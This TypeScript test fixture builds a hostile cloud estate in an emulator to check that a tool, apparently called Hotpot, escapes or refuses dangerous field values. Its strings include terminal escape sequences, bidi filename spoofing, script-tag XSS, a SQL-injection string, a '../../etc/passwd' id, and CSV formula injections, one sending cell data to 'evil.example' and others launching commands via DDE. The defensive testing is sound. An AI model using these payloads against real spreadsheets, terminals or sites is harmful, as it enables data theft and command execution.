import type { MutationOp } from '../../emulator/explicit-mutations.js';

/** Text an attacker or a careless admin can put in any free-text field of a resource. */
export const HOSTILE_TEXT = {
  ansi: 'ok\u001b[31mRED\u001b[0m\u001b]0;pwned\u0007\u001b[2J',
  c1: 'csi\u009b31mx\u0085line',
  bidi: 'invoice\u202egpj.exe\u2066x\u2069',
  zeroWidth: 'a\u200bd\u200dmin\ufeff',
  combining: 'e\u0301\u0301\u0301 \ud83e\udd80 \u0928\u093f \ufdfd',
  html: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  formulaEq: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  formulaPlus: '+cmd|" /C calc"!A0',
  formulaMinus: '-2+3+cmd|" /C calc"!A0',
  formulaAt: '@SUM(1+1)*cmd|" /C calc"!A0',
  sqlish: "x'); drop table gcp_compute_instances; --",
  newline: 'line1\r\nline2\tTAB',
} as const;

/** Ids a listing may carry that are strings but no numbers: stored as they are, escaped wherever shown. */
export const ODD_IDS = ['../../etc/passwd', '<b>id</b>', '=1+1', '9'.repeat(400)];

/** Characters no terminal, CSV or HTML output may carry raw: C0 (but tab and line ends), DEL, C1, bidi controls. */
export const UNSAFE_OUTPUT =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** A CSV cell a spreadsheet would run as a formula: starting with `=`, `+`, `@`, or `-` not starting a number. */
const FORMULA = /^([=+@]|-(?!\d+(\.\d+)?$))/;

/** The cells of a CSV text (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks). */
export function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

/** The first CSV cell a spreadsheet would run as a formula, or undefined. */
export function formulaCell(csv: string): string | undefined {
  return csvCells(csv).find((c) => FORMULA.test(c));
}

const huge = (n: number, seed: string) => `${seed} `.repeat(Math.ceil(n / (seed.length + 1))).slice(0, n);

/** One instance of the hostile project's zone, by name, with hostile fields; `id` given when it is odd. */
function instance(zone: string, name: string, fields: Record<string, unknown>) {
  return { name, zone, status: 'RUNNING', ...fields };
}

/**
 * Operations that make `project`'s estate hostile but storable: every free-text field of new instances and a
 * firewall carries hostile text, some ids are odd strings, addresses are no IPs, and firewall port entries cannot
 * be parsed. (The huge instances come from `hugeInstanceOps`: the control API takes 1 MB per request.)
 */
export function storableHostileOps(project: string, zone: string, network: string): MutationOp[] {
  const texts = Object.entries(HOSTILE_TEXT);
  const ops: MutationOp[] = texts.map(([key, text], i) => ({
    op: 'create',
    project,
    type: 'instances',
    resource: instance(zone, `hostile-${i}`, {
      description: text,
      hostname: text,
      labels: { [key.toLowerCase()]: text.slice(0, 60) },
      tags: { items: [text] },
      ...(i === 0 && { status: HOSTILE_TEXT.ansi }),
      networkInterfaces: [
        {
          network,
          accessConfigs: [
            { natIP: `34.99.0.${i + 1}` },
            { natIP: i % 2 ? 'evil.example' : '999.1.1.1' },
            { natIP: text },
          ],
          ipv6AccessConfigs: [{ externalIpv6: '<script>' }],
        },
      ],
      metadata: { items: [{ key: 'startup-script', value: text }] },
    }),
  }));
  ODD_IDS.forEach((id, i) =>
    ops.push({ op: 'create', project, type: 'instances', resource: instance(zone, `odd-id-${i}`, { id }) }),
  );
  ops.push({
    op: 'create',
    project,
    type: 'firewalls',
    resource: {
      name: 'hostile-ports',
      network,
      direction: 'INGRESS',
      description: HOSTILE_TEXT.formulaEq,
      sourceRanges: ['0.0.0.0/0', 'not-a-cidr', HOSTILE_TEXT.ansi],
      allowed: [{ IPProtocol: 'tcp', ports: ['80-', 'abc', '22', HOSTILE_TEXT.bidi] }],
      targetTags: [HOSTILE_TEXT.formulaPlus, HOSTILE_TEXT.bidi],
    },
  });
  return ops;
}

/** Instances whose description is 700 K characters of bidi-laced text (about 850 KB), one operation list each (the control API takes 1 MB). */
export function hugeInstanceOps(project: string, zone: string, n: number): MutationOp[][] {
  return Array.from({ length: n }, (_, i) => [
    {
      op: 'create',
      project,
      type: 'instances',
      resource: instance(zone, `huge-${i}`, { description: huge(700 * 1024, HOSTILE_TEXT.bidi) }),
    },
  ]);
}

/** Instances Hotpot must refuse and name (no id, a NUL byte): created in the second project. */
export function refusedHostileOps(project: string, zone: string): MutationOp[] {
  const create = (name: string, fields: Record<string, unknown>): MutationOp => ({
    op: 'create',
    project,
    type: 'instances',
    resource: instance(zone, name, fields),
  });
  return [create('no-id', { id: '' }), create('nul-byte', { description: 'before\u0000after' })];
}

/** Names of the refused instances, with the words their rejection must carry. */
export const REFUSED = { 'no-id': 'without id', 'nul-byte': 'NUL' } as const;
